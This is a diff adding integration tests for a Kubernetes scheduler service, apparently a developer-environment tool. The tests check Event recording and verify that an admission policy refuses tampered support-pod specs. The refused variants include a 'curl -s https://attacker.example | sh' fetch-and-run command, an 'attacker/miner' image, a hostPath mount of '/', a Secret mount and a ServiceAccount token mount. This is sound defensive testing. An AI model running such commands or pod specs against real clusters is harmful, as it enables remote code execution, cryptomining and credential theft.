@@ -22,6 +22,7 @@ import { ApplicationFailure } from '@temporalio/common';
 import { MockActivityEnvironment } from '@temporalio/testing';
 import { DefaultLogger, Worker } from '@temporalio/worker';
 import { DateTime } from 'luxon';
+import { createEventRecorder, withEvents } from '../src/activities/events';
 import { createLogger, type Logger } from '../src/logger';
 import {
   createKubernetesActivities,
@@ -34,6 +35,7 @@ import {
   ORIGINAL_REPLICAS,
   ORIGINAL_SUSPEND,
   SUPPORT_POD_DEADLINE_MARGIN_SECONDS,
+  supportPodManifest,
   type KubernetesSettings,
 } from '../src/activities/kubernetes';
 import {
@@ -618,6 +620,9 @@ describe('Kubernetes activities (real kube-apiserver)', function () {
     let workerKubeConfig: KubeConfig;
     let workerApps: AppsV1Api;
     let workerCore: CoreV1Api;
+    /** SUPPORT_IMAGE as k8s/config.yaml ships it, which the support-pod policy reads from that ConfigMap. */
+    let supportImage: string;
+    const supportSizes = { XS: { cpu: '100m', memory: '128Mi' }, XL: { cpu: '4', memory: '8Gi' } };
 
     const token = async (name: string) =>
       (await core.createNamespacedServiceAccountToken({ namespace: NAMESPACE, name, body: { spec: { audiences: [], expirationSeconds: 3600 } } })).status!.token;
@@ -637,13 +642,14 @@ describe('Kubernetes activities (real kube-apiserver)', function () {
       this.timeout(60_000);
       await core.createNamespace({ body: { metadata: { name: NAMESPACE } } });
       const client = KubernetesObjectApi.makeApiClient(cluster.kubeConfig);
-      for (const file of ['rbac.yaml', 'admission-policy.yaml']) {
+      for (const file of ['rbac.yaml', 'admission-policy.yaml', 'config.yaml']) {
         for (const object of loadAllYaml(readFileSync(path.join(__dirname, '../k8s', file), 'utf8')) as KubernetesObject[]) await client.create(object);
       }
+      supportImage = (await core.readNamespacedConfigMap({ namespace: NAMESPACE, name: 'devenv-scheduler-config' })).data!.SUPPORT_IMAGE!;
       tokens = { [API]: await token(API), [WORKER]: await token(WORKER) };
       asApi = activities({ kubeConfig: cluster.kubeConfigForToken(tokens[API]!) });
       workerKubeConfig = cluster.kubeConfigForToken(tokens[WORKER]!);
-      asWorker = activities({ kubeConfig: workerKubeConfig });
+      asWorker = activities({ kubeConfig: workerKubeConfig, support: { namespace: SUPPORT_NAMESPACE, image: supportImage, sizes: supportSizes } });
       workerApps = workerKubeConfig.makeApiClient(AppsV1Api);
       workerCore = workerKubeConfig.makeApiClient(CoreV1Api);
       // A policy takes effect once the apiserver has loaded it: probe both with dry runs.
@@ -661,6 +667,19 @@ describe('Kubernetes activities (real kube-apiserver)', function () {
           ),
         );
       }
+      // The support-pod policy, once loaded with its ConfigMap: another image refused, the service's own pod admitted.
+      const probePod = (image: string) => supportPodManifest({ name: 'probe', size: 'XS', requestedBy: 'U1' }, image, supportSizes.XS);
+      await eventually('the support-pod admission policy', async () => {
+        const refused = await workerCore.createNamespacedPod({ namespace: SUPPORT_NAMESPACE, body: probePod('probe/other:1'), dryRun: 'All' }).then(
+          () => false,
+          (error: unknown) => (forbidden(error) ? true : Promise.reject(error)),
+        );
+        if (!refused) return undefined;
+        return workerCore.createNamespacedPod({ namespace: SUPPORT_NAMESPACE, body: probePod(supportImage), dryRun: 'All' }).then(
+          () => true,
+          (error: unknown) => (forbidden(error) ? undefined : Promise.reject(error)),
+        );
+      });
     });
 
     it('the worker: stop, start and support pods work with exactly its role, under its admission policies', async () => {
@@ -879,6 +898,131 @@ describe('Kubernetes activities (real kube-apiserver)', function () {
         });
       } finally {
         await core.patchNamespacedResourceQuotaStatus({ namespace: SUPPORT_NAMESPACE, name: SUPPORT_QUOTA, body: { status: { used } } }, mergePatch);
+      }
+    });
+
+    it("records each announcement as an Event on the namespace with the worker's identity, once however often it is retried; a refused one does not hold the notification up", async () => {
+      const ns = await namespace();
+      const delivered: string[] = [];
+      const lines: string[] = [];
+      const warnings = new Proxy(logger, {
+        get: (target, key, receiver) => (key === 'warn' ? (_detail: object, message: string) => lines.push(message) : Reflect.get(target, key, receiver)),
+      });
+      const notify = withEvents({ notify: async (event) => void delivered.push(`${event.kind}:${event.namespace}`) }, createEventRecorder(workerKubeConfig, warnings)).notify;
+      const report = { namespace: ns, changed: [{ kind: 'Deployment', name: 'api', from: 3, to: 0 }], unchanged: 0, durationMs: 5 };
+      const stopped = { kind: 'stopped' as const, namespace: ns, by: 'schedule', report };
+      const attempt = (activityId: string, attemptNumber: number) =>
+        new MockActivityEnvironment({ activityId, attempt: attemptNumber, workflowExecution: { workflowId: `env/${ns}`, runId: 'run-1' } });
+      // One notification, delivered on its third attempt; then another one.
+      for (const n of [1, 2, 3]) await attempt('7', n).run(notify, stopped);
+      await attempt('9', 1).run(notify, { kind: 'warning' as const, namespace: ns, shutdownAt: '2026-12-02T19:00:00.000+01:00', minutesLeft: 15, offsetMinutes: 15 });
+      const events = await core.listNamespacedEvent({ namespace: ns, fieldSelector: 'source=devenv-scheduler' });
+      assert.deepEqual(
+        events.items.map((e) => [e.reason, e.type, e.involvedObject.kind, e.involvedObject.name, e.message]).sort(),
+        [
+          ['ShutdownWarning', 'Normal', 'Namespace', ns, 'Stops at 2026-12-02T19:00:00.000+01:00 (in 15 min).'],
+          ['Stopped', 'Normal', 'Namespace', ns, 'Stopped by schedule: 1 workload scaled down.'],
+        ].sort(),
+      );
+      assert.deepEqual(delivered, [`stopped:${ns}`, `stopped:${ns}`, `stopped:${ns}`, `warning:${ns}`], 'every attempt still delivers');
+      // The worker may write no Event in a protected namespace: logged, and delivered anyway.
+      await attempt('11', 1).run(notify, { ...stopped, namespace: 'kube-system', problems: ['AWS could not stop: AccessDenied.'] });
+      assert.equal(delivered.at(-1), 'stopped:kube-system');
+      assert.ok(lines.some((line) => line.includes('could not record the Kubernetes Event')), lines.join('\n'));
+      const system = await core.listNamespacedEvent({ namespace: 'kube-system', fieldSelector: 'source=devenv-scheduler' });
+      assert.equal(system.items.length, 0);
+    });
+
+    it("in the support namespace the worker creates the service's own support pod and nothing else: another image, command, volume, token, securityContext, label or field is refused", async () => {
+      const quota = await core.readNamespacedResourceQuota({ namespace: SUPPORT_NAMESPACE, name: SUPPORT_QUOTA });
+      try {
+        // The service's own pods, with the image SUPPORT_IMAGE of the shipped ConfigMap: with an expiry, and with the longest deadline.
+        await asWorker.createSupportPod({ name: 'own-pod', size: 'XS', requestedBy: 'U1', expiresAt: new Date(Date.now() + 60 * 60_000).toISOString() });
+        await asWorker.createSupportPod({ name: 'own-pod-longest', size: 'XL', requestedBy: 'U1' });
+        const own = await core.readNamespacedPod({ namespace: SUPPORT_NAMESPACE, name: 'own-pod-longest' });
+        assert.equal(own.spec?.containers[0]?.image, supportImage);
+        for (const name of ['own-pod', 'own-pod-longest']) assert.equal(await asWorker.deleteSupportPod(name), true);
+
+        const policy = /ValidatingAdmissionPolicy 'devenv-scheduler-worker-support-pods'/;
+        type Pod = ReturnType<typeof supportPodManifest>;
+        const variant = (name: string, change: (pod: Pod) => void): Pod => {
+          const pod = supportPodManifest({ name, size: 'XS', requestedBy: 'U1', expiresAt: new Date(Date.now() + 60 * 60_000).toISOString() }, supportImage, supportSizes.XS);
+          change(pod);
+          return pod;
+        };
+        const shell = (pod: Pod) => pod.spec!.containers[0]!;
+        const refused: [string, RegExp, (pod: Pod) => void][] = [
+          ['another image', /may run support pods of the image debian:bookworm-slim \(SUPPORT_IMAGE\) only/, (p) => (shell(p).image = 'attacker/miner:latest')],
+          ['another command', /may run only the command `sleep infinity`/, (p) => (shell(p).command = ['sh', '-c', 'curl -s https://attacker.example | sh'])],
+          ['arguments', /may run only the command `sleep infinity`/, (p) => (shell(p).args = ['--and-more'])],
+          ['a Secret volume', /has no volumes/, (p) => {
+            p.spec!.volumes = [{ name: 'creds', secret: { secretName: 'anything' } }];
+            shell(p).volumeMounts = [{ name: 'creds', mountPath: '/creds' }];
+          }],
+          ['a projected ServiceAccount token', /has no volumes/, (p) => {
+            // Named as the ServiceAccount admission plugin of a real cluster names it (this test control plane runs without it).
+            p.spec!.serviceAccountName = 'default';
+            p.spec!.volumes = [{ name: 'token', projected: { sources: [{ serviceAccountToken: { path: 'token', audience: 'https://kubernetes.default.svc' } }] } }];
+          }],
+          ['an emptyDir', /has no volumes/, (p) => (p.spec!.volumes = [{ name: 'scratch', emptyDir: {} }])],
+          ['the ServiceAccount token mounted', /gets no ServiceAccount token/, (p) => (p.spec!.automountServiceAccountToken = true)],
+          ['another ServiceAccount', /gets no ServiceAccount token/, (p) => (p.spec!.serviceAccountName = 'devenv-scheduler-worker')],
+          ['another user', /has the service's securityContext/, (p) => (p.spec!.securityContext!.runAsUser = 1000)],
+          ['a supplemental group', /has the service's securityContext/, (p) => (p.spec!.securityContext!.supplementalGroups = [0])],
+          ['a capability kept', /has the service's securityContext/, (p) => (shell(p).securityContext!.capabilities = { drop: ['ALL'], add: ['NET_BIND_SERVICE'] })],
+          ['a label of its own', /has the labels app\.kubernetes\.io\/managed-by=devenv-scheduler and devenv-scheduler\/support-pod=true/, (p) => (p.metadata!.labels!.app = 'web')],
+          ['no support-pod label', /has the labels/, (p) => delete p.metadata!.labels!['devenv-scheduler/support-pod']],
+          ['an annotation not its own', /has the labels/, (p) => (p.metadata!.annotations!['kubectl.kubernetes.io/default-container'] = 'shell')],
+          ['a finalizer', /has the labels/, (p) => (p.metadata!.finalizers = ['example.com/hold'])],
+          ['a node of its choosing', /only the fields the service sets \(not spec\.nodeName\)/, (p) => (p.spec!.nodeName = 'control-plane-1')],
+          ['a toleration of every taint', /no toleration but the not-ready and unreachable ones/, (p) => (p.spec!.tolerations = [{ operator: 'Exists' }])],
+                    ['an init container', /only the fields the service sets \(not spec\.initContainers\)/, (p) => (p.spec!.initContainers = [{ ...shell(p), name: 'init', image: 'attacker/miner:latest' }])],
+          ['a second container', /has one container, shell/, (p) => p.spec!.containers.push({ ...shell(p), name: 'second' })],
+          ['environment from a Secret', /only the fields the service sets \(not container\.envFrom\)/, (p) => (shell(p).envFrom = [{ secretRef: { name: 'anything' } }])],
+          ['a command at start (lifecycle)', /only the fields the service sets \(not container\.lifecycle\)/, (p) => (shell(p).lifecycle = { postStart: { exec: { command: ['sh', '-c', 'id'] } } })],
+          ['no deadline', /has a deadline \(activeDeadlineSeconds/, (p) => delete p.spec!.activeDeadlineSeconds],
+          ['requests below its limits', /requests equal to its limits/, (p) => (shell(p).resources!.requests = { cpu: '10m', memory: '16Mi' })],
+        ];
+        const problems: string[] = [];
+        for (const [what, reason, change] of refused) {
+          const name = `refused-${refused.findIndex(([w]) => w === what)}`;
+          try {
+            await workerCore.createNamespacedPod({ namespace: SUPPORT_NAMESPACE, body: variant(name, change) });
+            problems.push(`${what}: admitted`);
+            await core.deleteNamespacedPod({ namespace: SUPPORT_NAMESPACE, name });
+          } catch (error) {
+            const message = (JSON.parse((error as { body?: string }).body ?? '{}') as { message?: string }).message ?? String(error);
+            if ((error as { code?: number }).code !== 403 || !policy.test(message) || !reason.test(message)) problems.push(`${what}: ${message}`);
+          }
+        }
+        assert.deepEqual(problems, []);
+        // A hostPath volume or the host's network: Pod Security `restricted` refuses them first, and the policy would too.
+        const hostPath = variant('host-path', (p) => (p.spec!.volumes = [{ name: 'root', hostPath: { path: '/' } }]));
+        assert.match(await refusal(workerCore.createNamespacedPod({ namespace: SUPPORT_NAMESPACE, body: hostPath })), /violates PodSecurity "restricted:latest": .*hostPath/);
+        const hostNetwork = variant('host-network', (p) => (p.spec!.hostNetwork = true));
+        assert.match(await refusal(workerCore.createNamespacedPod({ namespace: SUPPORT_NAMESPACE, body: hostNetwork })), /violates PodSecurity "restricted:latest": host namespaces/);
+        assert.equal((await core.listNamespacedPod({ namespace: SUPPORT_NAMESPACE })).items.filter((p) => /^refused-|^host-/.test(p.metadata!.name!)).length, 0, 'nothing refused was created');
+
+        // A pod is never changed afterwards (RBAC grants no update either; the policy refuses it regardless).
+        await asWorker.createSupportPod({ name: 'own-pod', size: 'XS', requestedBy: 'U1' });
+        assert.match(
+          await refusal(workerCore.patchNamespacedPod({ namespace: SUPPORT_NAMESPACE, name: 'own-pod', body: { spec: { containers: [{ name: 'shell', image: 'attacker/miner:latest' }] } } }, mergePatch)),
+          /cannot patch resource "pods"/,
+        );
+        assert.equal(await asWorker.deleteSupportPod('own-pod'), true);
+
+        // A worker whose SUPPORT_IMAGE is not the ConfigMap's (changed in one place only): the activity says it is the policy.
+        const elsewhere = activities({ kubeConfig: workerKubeConfig, support: { namespace: SUPPORT_NAMESPACE, image: 'busybox:1.36', sizes: supportSizes } });
+        await assert.rejects(elsewhere.createSupportPod({ name: 'other-image', size: 'XS', requestedBy: 'U1' }), (error: unknown) => {
+          assert.ok(error instanceof ApplicationFailure);
+          assert.equal(error.type, 'KubernetesPolicyDenied');
+          assert.equal(error.nonRetryable, true);
+          assert.match(error.message, /create support pod devenv-support\/other-image .*HTTP 403.*k8s\/admission-policy\.yaml.*image debian:bookworm-slim \(SUPPORT_IMAGE\) only/);
+          return true;
+        });
+      } finally {
+        // No quota controller runs here to give back what the created pods counted.
+        await core.patchNamespacedResourceQuotaStatus({ namespace: SUPPORT_NAMESPACE, name: SUPPORT_QUOTA, body: { status: { used: quota.status?.used } } }, mergePatch);
       }
     });
 
